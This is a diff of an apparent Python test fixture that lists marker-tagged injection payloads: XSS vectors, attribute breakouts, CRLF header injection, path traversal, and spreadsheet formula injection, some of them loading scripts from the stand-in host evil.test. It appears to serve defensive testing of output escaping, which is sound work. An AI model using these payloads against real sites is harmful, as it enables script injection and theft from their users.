@@ -5,6 +5,7 @@ Each is plain text to us. `MARK` stands in every one, so that a page that shows 
 
 MARK = "qzx"
 _CALL = f"alert('{MARK}')"
+_SHORT = f"alert`{MARK}`"
 
 _MARKUP = (
     f"<script>{_CALL}</script>",
@@ -15,7 +16,7 @@ _MARKUP = (
     f"<script type=module>{_CALL}</script>",
     f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
     f"<img src=x onerror={_CALL}>",
-    f"<img src=x onerror=\"{_CALL}\">",
+    f'<img src=x onerror="{_CALL}">',
     f"<img/src=x/onerror={_CALL}>",
     f"<img src='//evil.test/{MARK}.png'>",
     f"<img srcset='//evil.test/{MARK}.png 1x'>",
@@ -25,13 +26,13 @@ _MARKUP = (
     f"<svg><a xlink:href='javascript:{_CALL}'><text y=20>{MARK}</text></a></svg>",
     f"<svg><animate onbegin={_CALL} attributeName=x dur=1s></svg>",
     f"<svg><set onbegin={_CALL} attributename=x></svg>",
-    f"<svg><foreignObject><iframe srcdoc='<script>{_CALL}</script>'></iframe></foreignObject></svg>",
+    f"<svg><foreignObject><iframe srcdoc='<script>{_SHORT}</script>'></iframe></svg>",
     f"<svg><use href='data:image/svg+xml,<svg id=x onload={_CALL}>#x'></use></svg>",
-    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}></style></mglyph></table></math>",
-    f"<math href=\"javascript:{_CALL}\">{MARK}</math>",
-    f"<math><maction actiontype=statusline xlink:href=\"javascript:{_CALL}\">{MARK}</maction></math>",
+    f"<math><mtext><mglyph><style><img src=x onerror={_SHORT}></style></mglyph></math>",
+    f'<math href="javascript:{_CALL}">{MARK}</math>',
+    f'<math><maction actiontype=statusline xlink:href="javascript:{_CALL}">{MARK}</maction></math>',
     f"<iframe src=javascript:{_CALL}></iframe>",
-    f"<iframe srcdoc=\"<script>{_CALL}</script>\"></iframe>",
+    f'<iframe srcdoc="<script>{_CALL}</script>"></iframe>',
     f"<iframe src=//evil.test/{MARK}></iframe>",
     f"<object data=javascript:{_CALL}></object>",
     f"<object data=//evil.test/{MARK}></object>",
@@ -83,14 +84,14 @@ _MARKUP = (
     f"<keygen autofocus onfocus={_CALL}>",
     f"<portal src=//evil.test/{MARK}>",
     f"<script>import('//evil.test/{MARK}.mjs')</script>",
-    f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"//evil.test/{MARK}\"]}}]}}</script>",
+    f'<script type=speculationrules>{{"prefetch":[{{"urls":["//evil.test/{MARK}"]}}]}}</script>',
 )
 _ATTRIBUTES = (
-    f"\"><script>{_CALL}</script>",
+    f'"><script>{_CALL}</script>',
     f"'><script>{_CALL}</script>",
-    f"\" onfocus={_CALL} autofocus x=\"",
+    f'" onfocus={_CALL} autofocus x="',
     f"' onfocus={_CALL} autofocus x='",
-    f"\" onmouseover={_CALL} style=\"position:fixed;inset:0",
+    f'" onmouseover={_CALL} style="position:fixed;inset:0',
     f"` onfocus={_CALL} autofocus x=`",
     f"javascript:{_CALL}",
     f"JaVaScRiPt:{_CALL}",
@@ -117,7 +118,7 @@ _TEMPLATES = (
     f"{MARK}\r\nSet-Cookie: {MARK}=1",
     f"../../../../etc/{MARK}",
     f"..%2f..%2f{MARK}",
-    f"=HYPERLINK(\"//evil.test/{MARK}\")",
+    f'=HYPERLINK("//evil.test/{MARK}")',
     f"+cmd|' /C calc'!A0 {MARK}",
 )
 _ODD = (
